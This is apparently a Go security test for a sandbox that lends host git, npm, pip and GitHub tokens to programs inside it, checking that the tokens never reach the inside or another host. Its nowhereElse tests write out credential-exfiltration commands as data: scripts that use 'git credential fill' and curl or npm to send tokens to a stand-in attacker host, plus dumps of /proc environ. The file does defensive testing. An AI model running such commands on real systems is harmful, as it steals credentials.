package attacks

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"crypto/sha512"
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"net/http/cgi"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/bothy-dev/bothy/test/harness"
	"github.com/bothy-dev/bothy/test/stage"
)

// forge are servers that require a token for everything: of git, of npm and of pip, and GitHub's. They
// echo each request, as hostile ones would.
type forge struct {
	repositories string
	want         map[string]string // host: the Authorization that it requires

	mu  sync.Mutex
	got []string // host, method and path, and Authorization
}

// Tokens as on the host, and the values sent over the wire for them.
const (
	gitPassword  = "canary-git-0123456789abcdef"
	gitHubToken  = "gho_canary456789012345678901234567890123"
	npmToken     = "npm_canary456789012345678901234567890123"
	pipPassword  = "canary-pip-0123456789abcdef"
	gitHost      = "git.example.net"
	npmHost      = "npm.example.net"
	pipHost      = "pypi.example.net"
	attackerHost = "other.example.net"
)

func basicAuth(user, password string) string {
	return "Basic " + base64.StdEncoding.EncodeToString([]byte(user+":"+password))
}

func newForge(t *testing.T) *forge {
	t.Helper()
	f := &forge{repositories: t.TempDir(), want: map[string]string{
		gitHost: basicAuth("me@example.net", gitPassword), "github.com": basicAuth("x-access-token", gitHubToken), "api.github.com": "token " + gitHubToken,
		npmHost: "Bearer " + npmToken, pipHost: basicAuth("me", pipPassword),
	}}
	script := `git init -q --bare -b main app.git && git -C app.git config http.receivepack true &&
		git init -q -b main one && git -C one -c user.name=x -c user.email=x@example.net commit -q --allow-empty -m first && git -C one push -q ../../team/app.git main`
	team := filepath.Join(f.repositories, "team")
	if err := os.Mkdir(team, 0o700); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("sh", "-c", script)
	cmd.Dir, cmd.Env = team, []string{"PATH=" + os.Getenv("PATH"), "HOME=" + f.repositories, "GIT_CONFIG_NOSYSTEM=1"}
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("make a repository: %v\n%s", err, out)
	}
	return f
}

func (f *forge) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	sent := r.Header.Get("Authorization")
	f.mu.Lock()
	f.got = append(f.got, fmt.Sprintf("%s %s %s %s", r.Host, r.Method, r.URL.Path, sent))
	f.mu.Unlock()
	w.Header().Set("X-Echo", sent)
	switch want := f.want[r.Host]; {
	case r.Host == attackerHost:
		fmt.Fprintln(w, r.Header)
	case sent != want:
		w.Header().Set("WWW-Authenticate", `Basic realm="forge"`)
		http.Error(w, "who are you? not "+sent, http.StatusUnauthorized)
	case r.Host == npmHost:
		serveNpm(w, r)
	case r.Host == pipHost:
		servePip(w, r)
	case r.Host == "api.github.com":
		fmt.Fprintf(w, `{"login":"me","sent":%q}`, sent)
	default:
		(&cgi.Handler{Path: "/usr/lib/git-core/git-http-backend", Env: []string{
			"GIT_PROJECT_ROOT=" + f.repositories, "GIT_HTTP_EXPORT_ALL=1", "GIT_CONFIG_NOSYSTEM=1", "HOME=" + f.repositories, "REMOTE_USER=me",
		}}).ServeHTTP(w, r)
	}
}

// saw returns the requests since the last call.
func (f *forge) saw() string {
	f.mu.Lock()
	defer f.mu.Unlock()
	text := strings.Join(f.got, "\n")
	f.got = nil
	return text
}

// serveNpm is a registry with one package of a scope.
func serveNpm(w http.ResponseWriter, r *http.Request) {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	a := tar.NewWriter(z)
	text := `{"name":"@corp/greet","version":"1.0.0"}`
	_ = a.WriteHeader(&tar.Header{Name: "package/package.json", Mode: 0o644, Size: int64(len(text))})
	_, _ = io.WriteString(a, text)
	_, _ = a.Close(), z.Close()
	if strings.HasSuffix(r.URL.Path, ".tgz") {
		_, _ = w.Write(b.Bytes())
		return
	}
	sum := sha512.Sum512(b.Bytes())
	w.Header().Set("Content-Type", "application/json")
	fmt.Fprintf(w, `{"name":"@corp/greet","dist-tags":{"latest":"1.0.0"},"versions":{"1.0.0":{"name":"@corp/greet","version":"1.0.0","dist":{"tarball":"https://%s/@corp/greet/-/greet-1.0.0.tgz","integrity":"sha512-%s"}}}}`,
		npmHost, base64.StdEncoding.EncodeToString(sum[:]))
}

// servePip is an index with one package.
func servePip(w http.ResponseWriter, r *http.Request) {
	const wheel = "greet-1.0-py3-none-any.whl"
	if !strings.HasSuffix(r.URL.Path, ".whl") {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<!DOCTYPE html><a href="/files/%s">%s</a>`, wheel, wheel)
		return
	}
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, file := range [][2]string{
		{"greet.py", "print('hello from pip')\n"},
		{"greet-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: greet\nVersion: 1.0\n"},
		{"greet-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n"},
		{"greet-1.0.dist-info/RECORD", "greet.py,,\ngreet-1.0.dist-info/METADATA,,\ngreet-1.0.dist-info/WHEEL,,\ngreet-1.0.dist-info/RECORD,,\n"},
	} {
		f, err := z.Create(file[0])
		if err == nil {
			_, err = io.WriteString(f, file[1])
		}
		if err != nil {
			http.Error(w, err.Error(), http.StatusInternalServerError)
			return
		}
	}
	_ = z.Close()
	w.Header().Set("Content-Type", "application/octet-stream")
	_, _ = w.Write(b.Bytes())
}

// TestC7TokensOfTools checks that git, npm and pip inside work with the credentials of the host's
// tools, without any set-up inside, and that the inside never has them (C1, C2, C3, C7, C8, C12).
func TestC7TokensOfTools(t *testing.T) {
	harness.AsUser(t)
	for _, program := range []string{"/usr/bin/git", "/usr/bin/npm", "/usr/bin/pip", "/usr/bin/curl", "/usr/lib/git-core/git-http-backend"} {
		if _, err := os.Stat(program); err != nil {
			harness.Missing(t, "%v", err)
		}
	}
	stage.On(t, func(t *testing.T, c *harness.Caller, s *stage.Stage) {
		f := newForge(t)
		c.Env = append(c.Env, "SSL_CERT_FILE="+c.Write(t, filepath.Join(c.Work, "roots.pem"), stage.Web(t, s.Take(t, "443"), f)))
		for path, text := range map[string]string{
			".git-credentials":     "https://me%40example.net:" + gitPassword + "@" + gitHost + "\n",
			".config/gh/hosts.yml": "github.com:\n    oauth_token: " + gitHubToken + "\n    user: me\n",
			".npmrc":               "@corp:registry=https://" + npmHost + "/\n//" + npmHost + "/:_authToken=${CORP_TOKEN}\n",
			".config/pip/pip.conf": "[global]\nindex-url = https://" + pipHost + "/simple/\n",
			".netrc":               "machine " + pipHost + " login me password " + pipPassword + "\n",
			"project/.npmrc":       "//" + attackerHost + "/:_authToken=${CORP_TOKEN}\n", // from the repository, not the user's
		} {
			c.Mkdir(t, filepath.Dir(filepath.Join(c.Home, path)))
			c.Write(t, filepath.Join(c.Home, path), text)
		}
		c.Env = append(c.Env, "CORP_TOKEN="+npmToken)
		for _, host := range []string{gitHost, "github.com", "api.github.com", npmHost, pipHost, attackerHost} {
			s.Leads(host, stage.Host4.String())
			c.Must(t, "policy", "allow", host+":443")
		}
		c.Must(t, "create", "--lend", "github,git,npm,pip", "--name", "box", "shell", c.Work)
		f.toolsWork(t, c)
		f.nowhereInside(t, c)
		f.nowhereElse(t, c)
		c.Must(t, "secret", "revoke", "--all")
		f.toolsFail(t, c)
		c.Must(t, "rm", "-f", "box")
	})
}

// work lists uses of tokens by programs inside, and the requests that the servers then see.
var work = []struct{ script, host, out string }{
	{`cd /tmp && git clone -q https://` + gitHost + `/team/app.git && cd app && git log --format=%s && git -c user.name=x -c user.email=x@example.net commit -q --allow-empty -m second && git push -q origin main && git ls-remote origin main | cut -f2`, gitHost, "first\nrefs/heads/main\n"},
	{`git ls-remote https://github.com/team/app.git main | cut -f2`, "github.com", "refs/heads/main\n"},
	{`curl -sS -H "Authorization: token $GH_TOKEN" https://api.github.com/user | grep -o '"login":"me"'`, "api.github.com", "\"login\":\"me\"\n"},
	{`mkdir -p /tmp/n && cd /tmp/n && npm install --no-audit --no-fund --no-update-notifier @corp/greet >/dev/null && cat node_modules/@corp/greet/package.json`, npmHost, `{"name":"@corp/greet","version":"1.0.0"}`},
	{`pip install -q --disable-pip-version-check --no-cache-dir --target /tmp/p greet && PYTHONPATH=/tmp/p python3 -m greet`, pipHost, "hello from pip\n"},
}

func (f *forge) toolsWork(t *testing.T, c *harness.Caller) {
	t.Helper()
	for _, w := range work {
		r := c.Sh("box", "", w.script)
		got := f.saw()
		if r.Code != 0 || r.Stdout != w.out {
			t.Errorf("%s: %v\nthe servers saw\n%s", w.script, r, got)
		}
		if !strings.Contains(got, f.want[w.host]) || !strings.Contains(got, w.host+" ") {
			t.Errorf("%s: the token did not arrive:\n%s", w.script, got)
		}
	}
}

// secrets returns the values, and their forms on the wire.
func (f *forge) secrets() []string {
	list := []string{gitPassword, gitHubToken, npmToken, pipPassword}
	for _, want := range f.want {
		_, encoded, _ := strings.Cut(want, " ")
		list = append(list, encoded)
	}
	return list
}

// nowhereInside looks for the values in everything that the inside can see, including the servers'
// answers.
func (f *forge) nowhereInside(t *testing.T, c *harness.Caller) {
	t.Helper()
	// Before the search program exists, which contains the values.
	c.Must(t, "checkpoint", "create", "box")
	const common = "canary" // to all values
	if out := c.Must(t, "exec", "-u", "root", "box", c.Plant(t, c.Work), "intruder", "search", common, "/"); strings.Contains(out, "CONTENT") {
		t.Errorf("found inside:\n%s", out)
	}
	said := c.Sh("box", "root", `env; cat /proc/*/environ /proc/*/cmdline | tr "\0" "\n"`).Stdout
	said += c.Sh("box", "", `env; git config -l; npm config ls -l; pip config list; cat ~/.npmrc; for h in github.com `+gitHost+`; do printf 'protocol=https\nhost=%s\n\n' $h | git credential fill; done`).Stdout
	said += c.Sh("box", "", `curl -si -H "Authorization: token $GH_TOKEN" https://api.github.com/user; curl -si -u "x:$GH_TOKEN" https://api.github.com/none; curl -si "$PIP_INDEX_URL"`).Stdout
	if !strings.Contains(said, "X-Echo") && !strings.Contains(said, "x-echo") {
		t.Errorf("the servers did not tell what they got:\n%s", said)
	}
	for _, v := range f.secrets() {
		harness.Absent(t, "what is said inside", []byte(said), v)
	}
	for _, v := range []string{gitPassword, gitHubToken, npmToken, pipPassword} {
		harness.AbsentInFiles(t, c.State, v)
	}
	for _, args := range [][]string{{"secret", "sources"}, {"secret", "sources", "--json"}, {"secret", "ls", "--json"}, {"secret", "audit"}, {"inspect", "box"}, {"logs", "--source", "network", "box"}} {
		text := c.Must(t, args...)
		for _, v := range f.secrets() {
			harness.Absent(t, strings.Join(args, " "), []byte(text), v)
		}
	}
	f.saw()
}

// nowhereElse tries to have lent tokens sent to another host, or in another place.
func (f *forge) nowhereElse(t *testing.T, c *harness.Caller) {
	t.Helper()
	fill := `fill() { printf 'protocol=https\nhost=%s\n\n' "$1" | git credential fill | sed -n "s/^$2=//p"; }; `
	for what, script := range map[string]string{
		"another host, by curl":        fill + `curl -sS -u "$(fill ` + gitHost + ` username):$(fill ` + gitHost + ` password)" https://` + attackerHost + `/`,
		"another host, by git":         fill + `git -c credential.helper="!f() { echo username=x; echo password=$(fill ` + gitHost + ` password); }; f" ls-remote https://github.com/team/app.git`,
		"the API's token elsewhere":    `curl -sS -H "Authorization: Bearer $GH_TOKEN" https://` + attackerHost + `/`,
		"another place":                `curl -sS -H "X-Token: $GH_TOKEN" https://api.github.com/user`,
		"a registry of the repository": `cd /tmp && mkdir -p evil && cd evil && printf "@corp:registry=https://` + attackerHost + `/\n//` + attackerHost + `/:_authToken=$(sed -n 's/.*_authToken=//p' ~/.npmrc)\n" > .npmrc && npm view --fetch-retries=0 @corp/greet`,
		"an index of the project":      `pip download -q --disable-pip-version-check --retries 0 -d /tmp/d --index-url "$(echo "$PIP_INDEX_URL" | sed s/` + pipHost + `/` + attackerHost + `/)" greet`,
		"without TLS":                  `curl -sS -H "Authorization: token $GH_TOKEN" http://api.github.com/user`,
	} {
		r := c.Sh("box", "", script)
		for _, v := range f.secrets() {
			harness.Absent(t, what, []byte(r.Stdout+r.Stderr), v)
		}
		for line := range strings.Lines(f.saw()) {
			arrived := strings.Contains(line, " Bearer ") || strings.Contains(line, " token ")
			if strings.Contains(line, attackerHost) { // the gateway does not look into this traffic: placeholders may arrive
				arrived = slices.ContainsFunc(f.secrets(), func(v string) bool { return strings.Contains(line, v) })
			}
			if arrived {
				t.Errorf("%s: arrived %s(%v)", what, line, r)
			}
		}
	}
}

// toolsFail checks that revoked tokens are useless, also for programs that got them before.
func (f *forge) toolsFail(t *testing.T, c *harness.Caller) {
	t.Helper()
	c.Must(t, "exec", "box", "rm", "-rf", "/tmp/app", "/tmp/n", "/tmp/p")
	for _, w := range work {
		if r := c.Sh("box", "", "export GIT_TERMINAL_PROMPT=0 npm_config_cache=/tmp/empty npm_config_fetch_retries=0 PIP_RETRIES=0 PIP_NO_INPUT=1; "+w.script); strings.Contains(r.Stdout, w.out) {
			t.Errorf("%s: it still works: %v", w.script, r)
		}
		got := f.saw()
		for _, v := range f.secrets() {
			if strings.Contains(got, v) {
				t.Errorf("%s: the token arrived:\n%s", w.script, got)
			}
		}
	}
}
